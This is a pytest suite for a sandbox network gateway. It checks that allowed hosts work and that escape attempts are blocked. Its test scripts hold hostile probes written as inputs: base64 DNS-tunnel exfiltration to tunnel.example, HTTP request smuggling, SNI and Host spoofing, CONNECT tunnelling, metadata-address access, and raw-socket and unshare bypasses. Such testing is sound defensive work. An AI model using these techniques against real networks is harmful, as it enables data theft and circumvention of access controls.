"""Network policies: what is allowed works as without dsec in between, and whatever a sandbox tries, nothing else does."""

import json

import network_box
import pytest
from network_box import TLS_DENIED, Box, eventually


@pytest.fixture
def world(work):
    yield from network_box.world(work)


@pytest.fixture
def dsec(world):
    yield from network_box.dsec_in(world)


def test_allowed_hosts_are_reached_by_name_and_others_are_not(dsec, world):
    box = Box(dsec, "--allow", "good.example", "--allow", "*.wild.example", "--allow", "dual.example", "--allow", "six.example")
    assert box.py("print(body(http('good.example', 'good.example')))") == "11.0.0.10 good.example"
    assert box.py("print(body(http('a.wild.example', 'a.wild.example')))") == "11.0.0.14 a.wild.example"
    assert box.py("print(body(http('six.example', 'six.example')))") == "2a00:1::6 six.example"
    assert box.py("print(tcp('good.example', 443, hello('good.example')))") == "at 11.0.0.10"
    assert box.py("print(look_up('evil.example'), look_up('empty.example'))") == "no no"
    assert box.dsec.ok("exec", box.id, "--", "wget", "-qO-", "http://good.example/x") == "11.0.0.10 good.example\n"
    assert {record["at"] for record in world.seen("http") + world.seen("hello")} <= {"11.0.0.10", "11.0.0.14", "2a00:1::6"}


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_names_that_are_not_allowed_never_leave_the_host(dsec, world):
    box = Box(dsec, "--allow", "good.example")
    assert box.py("print(look_up('c2VjcmV0.tunnel.example'), look_up('good.example') != 'no')") == "no True"
    # Another resolver is the same one, and another type of an allowed name has no answer.
    lines = box.py("""
open("/etc/resolv.conf", "w").write("nameserver 11.0.0.53\\n")
print(look_up("more.tunnel.example"))
print(udp("11.0.0.53", 53, query("secret.tunnel.example"))[3] == "\\x83")
q = query("other.tunnel.example")
c = socket.create_connection(("11.0.0.53", 53)); c.sendall(len(q).to_bytes(2, "big") + q); print(c.recv(999)[5] == 0x83)
for kind in (5, 16, 65): print(udp("11.0.0.53", 53, query("good.example", kind))[6:8].encode("latin1"))
print(udp("11.0.0.53", 53, b"exfiltrated words"), tcp("11.0.0.53", 53, b"\\0\\5words"))
""").splitlines()
    assert lines == ["no", "True", "True"] + [r"b'\x00\x00'"] * 3 + ["nothing reset"]
    assert {record["name"] for record in world.seen("dns")} == {"good.example"}
    denied = [record for record in box.log("--denied") if record["protocol"] == "dns"]
    assert "c2vjcmv0.tunnel.example" in {record["host"] for record in denied}


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_an_address_alone_needs_a_rule_of_its_own(dsec, world):
    box = Box(dsec, "--allow", "good.example", "--allow", "11.0.0.20:9000")
    lines = box.py("""
print(status(http("11.0.0.10", "11.0.0.10")), tcp("11.0.0.10", 443, hello()) == "%s", tcp("11.0.0.10", 9000, b"x"))
print(body(http("11.0.0.66", "good.example")).strip())
print(tcp("11.0.0.66", 443, hello("good.example")).strip())
c = socket.create_connection(("11.0.0.20", 9000)); c.sendall(b"echo"); print(c.recv(9))
print(tcp("11.0.0.20", 9001), tcp("11.0.0.21", 9000))
""" % TLS_DENIED).splitlines()
    assert lines == ["403 Forbidden True reset", "11.0.0.10 good.example", "at 11.0.0.10", "b'echo'", "reset reset"]
    # Never the address that the sandbox gave, but the gateway's own resolution of the name.
    assert not [record for record in world.seen("http") + world.seen("hello") if record["at"] == "11.0.0.66"]


def test_other_ports_and_protocols_of_an_allowed_host_are_closed(dsec, world):
    box = Box(dsec, "--allow", "good.example", "--allow", "other.example:2222", "--allow", "udp/other.example:7777")
    lines = box.py("""
print(tcp("good.example", 9000, b"x"), tcp("good.example", 8080, b"GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"))
c = socket.create_connection(("other.example", 2222)); print(c.recv(100)); c.sendall(b"hi"); print(c.recv(9))
at = socket.gethostbyname("other.example")
print(udp(at, 7777, b"hello"), udp(at, 7778, b"x"), udp(socket.gethostbyname("good.example"), 7777, b"x"))
print(udp(at, 7777, b"y" * 40000)[-3:])
""").splitlines()
    assert lines[0] == "reset reset"
    assert lines[1:3] == ["b'SSH-2.0-11.0.0.11\\r\\n'", "b'hi'"]
    assert lines[3:] == ["11.0.0.11 hello nothing nothing", "yyy"]
    assert {record["at"] for record in world.seen("udp")} == {"11.0.0.11"}


def test_ipv6_is_held_to_the_rules_like_ipv4(dsec, world):
    box = Box(dsec, "--allow", "dual.example", "--allow", "[2a00:1::20]:9000", "--allow", "[2a00:1::20]:2222",
              "--allow", "udp/[2a00:1::20]:7777")
    lines = box.py("""
print(tcp("2a00:1::66", 443, hello("evil.example")) == "%s", tcp("2a00:1::66", 9000, b"x"), tcp("2a00:1::20", 9001))
print(body(http("2a00:1::66", "dual.example")).split()[1])
c = socket.create_connection(("2a00:1::20", 2222)); print(c.recv(100))
print(udp("2a00:1::20", 7777, b"six"), udp("2a00:1::21", 7777, b"six"))
s = [x for x in socket.getaddrinfo("dual.example", 80, socket.AF_INET6, socket.SOCK_STREAM)]
c = socket.socket(socket.AF_INET6); c.connect(s[0][4]); c.sendall(b"GET / HTTP/1.0\\r\\nHost: dual.example\\r\\n\\r\\n"); print(c.recv(9))
""" % TLS_DENIED).splitlines()
    assert lines == ["True reset reset", "dual.example", "b'SSH-2.0-2a00:1::20\\r\\n'", "2a00:1::20 six nothing", "b'HTTP/1.1 '"]


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_what_the_first_bytes_name_must_be_allowed_too(dsec, world):
    box = Box(dsec, "--allow", "good.example", "--allow", "other.example", "--allow", "11.0.0.20")
    lines = box.py("""
denied = "%s"
print(tcp("good.example", 443, hello("evil.example")) == denied, tcp("good.example", 443, hello("other.example")).strip())
print(status(http("good.example", "evil.example")), status(http("good.example", "other.example")))
two = "GET /1 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\nGET /2 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
print(tcp("good.example", 80, two.encode()).count("11.0.0.10 evil.example"))
smuggled = "POST / HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
print(status(tcp("good.example", 80, smuggled.encode())))
print(tcp("good.example", 443, hello() + b"x").strip())
# A host that is allowed by its address is that, whatever name it has.
print(tcp("11.0.0.20", 443, hello("evil.example")).strip())
print(status(tcp("good.example", 80, b"CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")))
# Were the server a proxy, it would connect to that port of the host.
for port in (443, 22): print(status(tcp("good.example", 80, b"CONNECT other.example:%%d HTTP/1.1\\r\\n\\r\\n" %% port))[:3])
for port in (80, 25): print(status(tcp("good.example", 80, b"GET http://other.example:%%d/ HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n" %% port))[:3])
""" % TLS_DENIED).splitlines()
    assert lines == ["True at 11.0.0.10", "403 Forbidden 200 OK", "0", "403 Forbidden", "at 11.0.0.10", "at 11.0.0.20", "403 Forbidden",
                     "501", "403", "200", "403"]
    assert "evil.example" not in {record.get("host") for record in world.seen("http")}


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_strict_mode_takes_only_what_shows_whom_it_is_for(dsec, world):
    box = Box(dsec, "--allow", "good.example:*", "--allow", "other.example")
    dsec.ok("net", "set", box.id, "--strict")
    lines = box.py("""
denied = "%s"
print(tcp("good.example", 443, hello("good.example")).strip())
print(tcp("good.example", 443, hello("good.example", ext(0xfe0d, b"x"))) == denied, tcp("good.example", 443, hello()) == denied)
print(tcp("good.example", 443, hello("other.example")) == denied, status(http("good.example", "other.example")))
print(tcp("good.example", 9000, b"neither\\n"), status(http("good.example", "good.example")))
""" % TLS_DENIED).splitlines()
    assert lines == ["at 11.0.0.10", "True True", "True 403 Forbidden", "reset 200 OK"]
    assert any("encrypted" in record["reason"] for record in box.log("--denied"))


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_strict_mode_takes_no_datagrams_by_name(dsec, world):
    box = Box(dsec, "--allow", "udp/good.example:7777", "--allow", "udp/11.0.0.20:7777")
    ask = "print(udp(socket.gethostbyname('good.example'), 7777, b'x'), udp('11.0.0.20', 7777, b'x'))"
    assert box.py(ask) == "11.0.0.10 x 11.0.0.20 x"
    dsec.ok("net", "set", box.id, "--strict")
    assert box.py(ask) == "nothing 11.0.0.20 x"
    assert any("datagrams do not show" in record["reason"] for record in box.log("--denied"))


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_a_policy_that_becomes_strict_cuts_what_does_not_show_whom_it_is_for(dsec, world):
    box = Box(dsec, "--allow", "good.example:*", "--allow", "other.example:*", "--allow", "11.0.0.20:9000")
    asking = box.popen("""
def opened(address, port, first):
    c = socket.create_connection((address, port)); c.sendall(first); assert c.recv(99); return c
request = "GET /drip?seconds=20 HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n"
some = [opened("good.example", 9000, b"x"), opened("good.example", 2222, b""), opened("good.example", 80, (request % "other.example").encode()),
        opened("good.example", 80, (request % "good.example").encode()), opened("11.0.0.20", 9000, b"x"), socket.create_connection(("good.example", 2222))]
print("open", flush=True); sys.stdin.readline(); told = []
for c, more in zip(some, (b"y", b"y", b"", b"", b"y", b"y")):
    try: c.settimeout(2); c.sendall(more); told.append([part := c.recv(9999) for i in range(20)][-1] != b"" if not more else bool(c.recv(9)))
    except OSError as e: told.append(isinstance(e, ConnectionResetError) and "cut")
print(told)
""", "-i")
    assert asking.stdout.readline() == b"open\n"
    dsec.ok("net", "set", box.id, "--strict")
    asking.stdin.write(b"go\n")
    asking.stdin.close()
    assert asking.stdout.read() == b"['cut', 'cut', 'cut', True, True, 'cut']\n"
    asking.wait()
    reasons = {record["reason"].rpartition("strict: ")[2] for record in box.log("--denied")}
    assert {"it is neither TLS nor HTTP", "Host other.example for good.example"} <= reasons


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_an_address_that_is_no_longer_allowed_is_cut_although_a_name_is(dsec, world):
    """With names denied the first bytes count: what has not spoken yet must not speak to the old address."""
    box = Box(dsec, "--allow", "11.0.0.20", "--deny", "evil.example")
    asking = box.popen("""
request = b"GET /drip?seconds=20 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"
silent, plain = socket.create_connection(("11.0.0.20", 9000)), socket.create_connection(("11.0.0.20", 80))
going = socket.create_connection(("11.0.0.20", 80)); going.sendall(request); going.recv(99)
print("open", flush=True); sys.stdin.readline(); told = []
for c, first in ((silent, b"x"), (plain, request), (going, b"")):
    c.settimeout(3)
    try:
        if first: c.sendall(first)
        while part := c.recv(65536): last = part
        told.append("end")
    except ConnectionResetError: told.append("cut")
    except OSError as e: told.append(str(e))
print(told)
""", "-i")
    assert asking.stdout.readline() == b"open\n"
    dsec.ok("net", "set", box.id, "--allow", "good.example:*", "--deny", "evil.example")
    asking.stdin.write(b"go\n")
    asking.stdin.close()
    assert asking.stdout.read() == b"['cut', 'cut', 'cut']\n"
    asking.wait()
    assert {record["at"] for record in world.seen("http")} == {"11.0.0.20"} and len(world.seen("http")) == 1


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_a_fork_may_reach_what_its_parent_may_at_that_moment(dsec, world):
    (dsec.cwd / "dsec.yaml").write_text("""version: 1
environments:
  demo:
    base: base/box
    network: {allow: [good.example], phases: {setup: {allow: [other.example]}, verify: none}, phase: setup}
""")
    box = Box(dsec, what="demo")
    ask = "print(*[look_up(name) != 'no' for name in ('good.example', 'other.example')])"

    def forked() -> Box:
        fork = object.__new__(Box)
        fork.dsec, fork.id = dsec, dsec.ok("fork", box.id).strip()
        return fork

    assert forked().py(ask) == "False True"
    dsec.ok("net", "set", box.id, "--phase", "verify")
    last = forked()
    assert (last.py(ask), last.show()["plan"]["phase"]) == ("False False", "verify")
    # The phases are there as they were, and what is said of one stays with it.
    dsec.ok("net", "set", last.id, "--phase", "agent")
    assert (last.py(ask), box.py(ask)) == ("True False", "False False")
    dsec.ok("net", "set", box.id, "--phase", "none")
    dsec.ok("net", "set", box.id, "--allow", "other.example", "--strict")
    dsec.ok("stop", "-t", "0", box.id)
    last = forked()
    assert last.py(ask) == "False True" and last.show()["plan"]["strict"] is True


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_a_redirect_to_a_denied_host_ends_there(dsec, world):
    box = Box(dsec, "--allow", "good.example", "--allow", "11.0.0.10")
    wget = ["exec", box.id, "--", "env", "-u", "http_proxy", "wget", "-qO-"]
    assert dsec.ok(*wget, "http://good.example/redirect?to=http://good.example/end") == "11.0.0.10 good.example\n"
    assert dsec.run(*wget, "http://good.example/redirect?to=http://evil.example/").code != 0
    assert dsec.run(*wget, "http://good.example/redirect?to=http://11.0.0.66/").code != 0
    # Through the proxy as well.
    assert dsec.run("exec", box.id, "--", "wget", "-qO-", "http://good.example/redirect?to=http://evil.example/").code != 0
    assert "11.0.0.66" not in {record["at"] for record in world.seen("http")}


def test_private_addresses_metadata_and_this_host_must_be_named(dsec, world):
    names = ["metadata.example", "local.example", "private.example"]
    box = Box(dsec, *(flag for name in names for flag in ("--allow", name)), "--allow", "0.0.0.0/0", "--allow", "::/0")
    lines = box.py("""
for name in ("metadata.example", "local.example", "private.example"): print(status(http(name, name)))
for address in ("169.254.169.254", "10.1.2.3", "198.18.99.99", "192.0.2.1", "fd00:ec2::254"): print(tcp(address, 9000, b"x"))
print(body(http("11.0.0.30", "11.0.0.30")))
""").splitlines()
    assert lines == ["403 Forbidden"] * 3 + ["reset"] * 5 + ["11.0.0.30 11.0.0.30"]
    assert {record["at"] for record in world.seen("http")} == {"11.0.0.30"}
    dsec.ok("net", "set", box.id, *(flag for name in names for flag in ("--allow", name)), "--allow", "10.0.0.0/8:80",
            "--allow", "127.0.0.0/8:80", "--allow", "169.254.169.254:80")
    lines = box.py("for name in ('metadata.example', 'local.example', 'private.example'): print(body(http(name, name)).split()[0])")
    assert lines.splitlines() == ["169.254.169.254", "127.0.0.1", "10.1.2.3"]


def test_nothing_goes_around_the_gateway(dsec, world):
    box = Box(dsec, "--allow", "good.example")
    lines = box.py("""
def refused(make):
    try: make(); return "made"
    except OSError as e: return errno.errorcode[e.errno]
print(refused(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)), refused(lambda: socket.socket(17, socket.SOCK_RAW, 3)))
import ctypes; libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x40000000, 0x10000000 | 0x40000000):
    print(libc.unshare(flags), errno.errorcode[ctypes.get_errno()])
# The gateway's own ports: they are taken, and lead nowhere.
ports = {int(l.split()[1].split(":")[1], 16) for f in ("tcp", "tcp6") for l in open("/proc/net/" + f).readlines()[1:] if l.split()[3] == "0A"}
for port in ports:
    print(refused(lambda: socket.socket().bind(("0.0.0.0", port))), tcp("127.0.0.1", port, b"x"), tcp("192.0.2.2", port, b"x"))
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
print(refused(lambda: s.setsockopt(0, 19, 1)))
# One's own server at an address of somebody else is one's own, and is not reached from the outside.
mine = socket.socket(); mine.bind(("11.0.0.66", 80)); mine.listen()
print(status(http("11.0.0.66", "good.example")))
print(len(ports))
""").splitlines()
    assert lines[0] == "EPERM EPERM"
    assert lines[1:3] == ["-1 EPERM"] * 2
    assert lines[3] == "EADDRINUSE reset reset"
    assert lines[4] == "EPERM"
    assert lines[5:] == ["200 OK", "1"]


def test_the_sandbox_itself_is_not_the_outside(dsec, world):
    box = Box(dsec, "--network", "policy")
    lines = box.py("""
s = socket.socket(); s.bind(("127.0.0.1", 8000)); s.listen()
c = socket.create_connection(("127.0.0.1", 8000)); s.accept()[0].sendall(b"own"); print(c.recv(9))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0)); u.sendto(b"own", u.getsockname()); print(u.recv(9))
print(look_up("good.example"), tcp("11.0.0.10", 80, b"x"))
""").splitlines()
    assert lines == ["b'own'", "b'own'", "no reset"]
    assert not world.seen("dns")


def test_a_policy_is_replaced_at_once_and_cuts_what_it_no_longer_allows(dsec, world):
    box = Box(dsec, "--allow", "good.example", "--allow", "other.example")
    script = """
c = socket.create_connection(("%s", 80)); c.sendall(b"GET /drip?seconds=20 HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n")
try:
    while part := c.recv(65536): print("some")
    print("end")
except ConnectionResetError: print("cut")
"""
    going, cut = (box.popen(script % (host, host)) for host in ("other.example", "good.example"))
    assert going.stdout.readline() == cut.stdout.readline() == b"some\n"
    dsec.ok("net", "set", box.id, "--allow", "other.example")
    assert cut.communicate(timeout=10)[0].endswith(b"cut\n")
    assert going.poll() is None and going.stdout.readline() == b"some\n"
    assert box.py("print(look_up('good.example'), status(http('other.example', 'other.example')))") == "no 200 OK"
    assert eventually(lambda: [r for r in world.seen("broken")])
    assert [r["host"] for r in box.log("--denied") if "the policy was changed" in r["reason"]] == ["good.example"]
    dsec.ok("net", "set", box.id, "--nothing")
    assert going.communicate(timeout=10)[0].endswith(b"cut\n")


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_a_new_policy_cuts_flows_of_datagrams_too(dsec, world):
    box = Box(dsec, "--allow", "udp/good.example:7777", "--allow", "udp/other.example:7777")
    asking = box.popen("""
flows = []
for name in ("good.example", "other.example"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect((socket.gethostbyname(name), 7777)); flows.append(s)
def ask(s, data):
    s.send(data)
    try: return s.recv(999).decode()
    except OSError: return "nothing"
for line in sys.stdin: print(*[ask(s, line.strip().encode()) for s in flows], flush=True)
""", "-i")

    def ask(word: str) -> bytes:
        asking.stdin.write(word.encode() + b"\n")
        asking.stdin.flush()
        return asking.stdout.readline()

    assert ask("before") == b"11.0.0.10 before 11.0.0.11 before\n"
    dsec.ok("net", "set", box.id, "--allow", "udp/good.example:7777")
    assert ask("after") == b"11.0.0.10 after nothing\n"
    asking.stdin.close()
    assert asking.wait(10) == 0
    assert [record["data"] for record in world.seen("udp") if record["at"] == "11.0.0.11"] == ["before"]
    denied = [record for record in box.log("--denied") if record["protocol"] == "udp"]
    assert {record["host"] for record in denied} == {"other.example"}
    assert any(record["reason"].startswith("the policy was changed") for record in denied), denied


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_what_is_denied_later_stays_denied_whatever_is_allowed(dsec, world):
    box = Box(dsec, "--allow", "good.example")
    dsec.ok("net", "set", box.id, "--allow", "*.example", "--allow", "11.0.0.0/8", "--deny", "evil.example", "--deny", "11.0.0.66")
    lines = box.py("""
print(status(http('good.example', 'good.example')), look_up('evil.example'), status(http('11.0.0.66', '11.0.0.66')), status(http('11.0.0.30', '11.0.0.30')))
""")
    assert lines == "200 OK no reset 200 OK"
    assert box.show()["plan"]["deny"] == ["evil.example", "11.0.0.66"]
    assert "deny evil.example" in {record["reason"] for record in box.log("--denied")}
    # Under another name, too, as the address says.
    assert box.py("print(status(http('alias.example', 'alias.example')))") == "403 Forbidden"
    assert "deny 11.0.0.66" in {record["reason"] for record in box.log("--denied")}
    assert {record["at"] for record in world.seen("http")} == {"11.0.0.10", "11.0.0.30"}


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_phases_switch_policies(dsec, world):
    (dsec.cwd / "dsec.yaml").write_text("""version: 1
environments:
  demo:
    base: base/box
    network: {allow: [good.example], phases: {setup: {allow: [other.example]}, verify: none}, phase: setup}
""")
    box = Box(dsec, what="demo")
    ask = "print(*[look_up(name) != 'no' for name in ('good.example', 'other.example')])"
    assert box.py(ask) == "False True"
    for phase, answer in (("agent", "True False"), ("verify", "False False"), ("none", "True False"), ("setup", "False True")):
        dsec.ok("net", "set", box.id, "--phase", phase)
        assert box.py(ask) == answer, phase
    assert box.show()["plan"]["phase"] == "setup"
    assert {record.get("phase") for record in box.log()} == {"setup", "agent", "verify", None}


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_a_thousand_connections_at_once(dsec, world):
    box = Box(dsec, "--allow", "good.example:9000")
    script = """
import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
at = socket.gethostbyname("good.example")
all = []
for i in range(1000):
    c = socket.socket(); c.connect((at, 9000)); c.sendall(b"%04d" % i); all.append(c)
print(sum(c.recv(4) == b"%04d" % i for i, c in enumerate(all)))
try: more = [socket.create_connection((at, 9000)) for i in range(50)]; [m.sendall(b"x") for m in more]; print(sum(bool(m.recv(1)) for m in more))
except ConnectionResetError: print("reset")
"""
    assert box.py(script).splitlines() == ["1000", "reset"]
    assert "limit of 1024 connections" in box.log("--denied")[-1]["reason"]
    assert eventually(lambda: box.show()["connections"] == 0)


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_a_policy_that_is_set_while_the_sandbox_is_paused_holds_when_it_goes_on(dsec, world):
    box = Box(dsec, "--allow", "good.example", "--allow", "good.example:9000")
    client = box.popen("""
c = socket.create_connection((socket.gethostbyname("good.example"), 9000)); c.sendall(b"hello"); print(c.recv(5), flush=True)
sys.stdin.readline()
try: c.sendall(b"more"); print(c.recv(5) or "end")
except OSError as e: print("cut")
print(look_up("good.example"), look_up("other.example") != "no")
""", "-i")
    assert client.stdout.readline() == b"b'hello'\n"
    dsec.ok("pause", box.id)
    dsec.ok("net", "set", box.id, "--allow", "other.example")
    assert dsec.json("inspect", box.id)[0]["state"] == "paused"
    assert [rule for rule in box.show()["plan"]["allow"]] == ["other.example"]
    assert eventually(lambda: box.show()["connections"] == 0), "what was open is cut at once"
    dsec.ok("resume", box.id)
    out, _ = client.communicate(b"on\n", timeout=60)
    assert out.split(b"\n")[0] in (b"cut", b"end") and out.split(b"\n")[1] == b"no True"


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_policies_change_again_in_a_replay_where_they_were_changed(dsec, world):
    box = Box(dsec, "--name", "r", "--allow", "other.example")
    ask = "print(*[look_up(name) != 'no' for name in ('good.example', 'other.example')])"
    assert box.py(ask) == "False True"
    dsec.ok("net", "set", "r", "--allow", "good.example", "--op-id", "change")
    assert box.py(ask) == "True False"
    dsec.ok("net", "set", "r", "--allow", "other.example")
    # Done once: what came later stays.
    dsec.ok("net", "set", "r", "--allow", "good.example", "--op-id", "change")
    assert "another request" in dsec.fails(2, "net", "set", "r", "--allow", "wild.example", "--op-id", "change")
    assert box.py(ask) == "False True"
    replay = dsec.ok("replay", "r", "-o", "json")
    assert [json.loads(line)["state"] for line in replay.splitlines()] == ["same"] * 5


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_bytes_have_a_limit(dsec, world):
    (dsec.cwd / "dsec.yaml").write_text("""version: 1
environments:
  demo:
    base: base/box
    network: {allow: [good.example], limits: {bytes: 1MiB, connections: 5}}
""")
    box = Box(dsec, what="demo")
    lines = box.py("""
print(len(body(http("good.example", "good.example", "/big?bytes=500000"))))
print(http("good.example", "good.example", "/big?bytes=5000000")[:5], http("good.example", "good.example")[:5])
""").splitlines()
    assert lines == ["500000", "reset reset"]
    assert "bytes is reached" in box.log("--denied")[-1]["reason"]


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_connections_have_a_limit(dsec, world):
    (dsec.cwd / "dsec.yaml").write_text("""version: 1
environments:
  demo:
    base: base/box
    network: {allow: ["good.example:9000"], limits: {connections: 5}}
""")
    box = Box(dsec, what="demo")
    lines = box.py("""
at = socket.gethostbyname("good.example")
def one():
    try:
        c = socket.create_connection((at, 9000)); c.sendall(b"x"); assert c.recv(1) == b"x"; return c
    except ConnectionResetError: return None
some = [one() for i in range(6)]
print([bool(c) for c in some].count(True), bool(some[5]))
some[2].close()
for i in range(100):
    if c := one(): break
    time.sleep(0.02)
print(bool(c), bool(one()), sum(c.send(b"y") and c.recv(1) == b"y" for c in (some[0], some[1], some[3], some[4], c)))
""").splitlines()
    assert lines == ["5 False", "True False 5"]
    assert "limit of 5 connections" in box.log("--denied")[-1]["reason"]
    assert len(world.seen("quiet")) == 6, "the server met one that was beyond the limit"


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_a_preset_stands_for_the_hosts_of_the_configuration(dsec, world):
    box = Box(dsec, "--allow", "pypi")
    assert box.show()["plan"]["allow"] == ["good.example"]
    ask = "print(*[status(http(name, name)) if look_up(name) != 'no' else 'no' for name in ('good.example', 'other.example', 'pypi.org')])"
    assert box.py(ask) == "200 OK no no"
    # What it meant then holds, whatever it means now.
    config = dsec.cwd / "config.yaml"
    config.write_text(config.read_text().replace("[good.example]", "[other.example]"))
    assert box.py(ask) == "200 OK no no"
    dsec.ok("net", "set", box.id, "--allow", "pypi")
    assert box.py(ask) == "no 200 OK no"


def test_large_transfers_pass_both_ways_with_half_closed_ends(dsec, world):
    box = Box(dsec, "--allow", "good.example", "--allow", "good.example:9000")
    lines = box.py("""
print(len(body(http("good.example", "good.example", "/big?bytes=1000000"))))
size = 5_000_000
c = socket.create_connection(("good.example", 80)); c.sendall(b"POST / HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n" % size)
c.sendall(b"y" * size); got = b""
while part := c.recv(4096): got += part
print(got.split(b"\\r\\n\\r\\n")[1].decode())
import threading
c = socket.create_connection(("good.example", 9000))
def send(): c.sendall(b"z" * size); c.shutdown(socket.SHUT_WR)
t = threading.Thread(target=send); t.start(); total = 0
while part := c.recv(65536): total += len(part)
print(total)
""", timeout=60).splitlines()
    assert lines == ["1000000", "5000000", "5000000"]
    record = [r for r in box.log() if r.get("port") == 9000][-1]
    assert (record["verdict"], record["sent"], record["received"]) == ("allow", 5000000, 5000000)
    assert record["host"] == "good.example" and record["address"] == "11.0.0.10" and record["reason"] == "allow good.example:9000"


def test_a_proxy_is_offered_and_recorded_nowhere(dsec, world):
    box = Box(dsec, "--allow", "good.example", "--allow", "good.example:2222", "--allow", "11.0.0.20:80")
    assert dsec.ok("exec", box.id, "--", "sh", "-c", "echo $http_proxy $HTTPS_PROXY").split() == ["http://192.0.2.1:3128"] * 2
    recorded = dsec.json("inspect", box.id)
    assert "proxy" not in json.dumps((recorded[0] if isinstance(recorded, list) else recorded)["spec"]).lower()
    lines = box.py("""
import urllib.request
print(urllib.request.urlopen("http://good.example/x").read().decode().strip())
def proxied(request): return tcp("192.0.2.1", 3128, request.encode())
def tunnel(to, data):
    c = socket.create_connection(("192.0.2.1", 3128)); c.sendall(b"CONNECT " + to.encode() + b" HTTP/1.1\\r\\n\\r\\n")
    answer = ""
    while not answer.endswith("\\r\\n\\r\\n"): answer += c.recv(1).decode()
    if " 200 " not in answer: return answer.split("\\r\\n")[0]
    c.sendall(data)
    try: return c.recv(999).decode("latin1").strip()
    except ConnectionResetError: return "reset"
print(tunnel("good.example:443", hello("good.example")), tunnel("good.example:2222", b""))
print(tunnel("evil.example:443", b""), tunnel("11.0.0.66:81", b""), tunnel("good.example:53", b""))
print(tunnel("good.example:443", hello("evil.example")) == "%s")
print(status(proxied("GET http://evil.example/ HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n")), status(proxied("GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n")))
print(body(proxied("GET http://11.0.0.20/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")))
""" % TLS_DENIED).splitlines()
    assert lines[0] == "11.0.0.10 good.example"
    assert lines[1] == "at 11.0.0.10 SSH-2.0-11.0.0.10"
    assert lines[2] == "HTTP/1.1 403 Forbidden HTTP/1.1 403 Forbidden HTTP/1.1 403 Forbidden"
    assert lines[3:] == ["True", "403 Forbidden 400 Bad Request", "11.0.0.20 11.0.0.20"]


def test_what_cannot_be_enforced_is_refused(dsec, world):
    assert "did you mean pypi" in dsec.fails(125, "run", "--allow", "pipy", "base/box", "--", "true")
    assert "is a URL" in dsec.fails(125, "run", "--allow", "https://pypi.org", "base/box", "--", "true")
    assert "make a policy" in dsec.fails(125, "run", "--network", "host", "--allow", "pypi", "base/box", "--", "true")
    plain = dsec.ok("create", "base/box").strip()
    assert "without a network policy" in dsec.fails(2, "net", "set", plain, "--allow", "pypi")
    assert dsec.ok("net", "show", plain) == "network none\n"
    (dsec.cwd / "dsec.yaml").write_text("""version: 1
environments:
  demo: {base: base/box, network: {inject: [{host: a.example, secret: "env:NOT_THERE"}]}}
""")
    assert "NOT_THERE" in dsec.fails(125, "run", "demo", "--", "true")


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_build_steps_may_have_a_policy(dsec, world):
    (dsec.cwd / "dsec.yaml").write_text("""version: 1
layers:
  workspace/fetched:
    on: base/box
    steps:
      - run: wget -qO /fetched http://good.example/file && ! wget -qO- http://evil.example/
        network: {allow: [good.example]}
""")
    dsec.ok("build", "workspace/fetched")
    assert dsec.ok("run", "base/box", "workspace/fetched", "--", "cat", "/fetched") == "11.0.0.10 good.example\n"
    assert {record["at"] for record in world.seen("http")} == {"11.0.0.10"}


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_a_name_server_that_knows_one_family_only_is_enough(dsec, world):
    box = Box(dsec, "--allow", "half.example", "--allow", "other-half.example")
    lines = box.py("""
for name in ("half.example", "other-half.example"):
    began = time.monotonic()
    print(body(http(name, name)).split()[0], time.monotonic() - began < 3)
""").splitlines()
    assert lines == ["11.0.0.18 True", "2a00:1::18 True"]


@pytest.mark.guest_slow("the gateway decides alike on any kernel")
def test_truncated_answers_are_asked_for_again_over_tcp(dsec, world):
    box = Box(dsec, "--allow", "large.example")
    assert box.py("print(body(http('large.example', 'large.example')))") == "11.0.0.13 large.example"
    assert any(record["stream"] for record in world.seen("dns"))
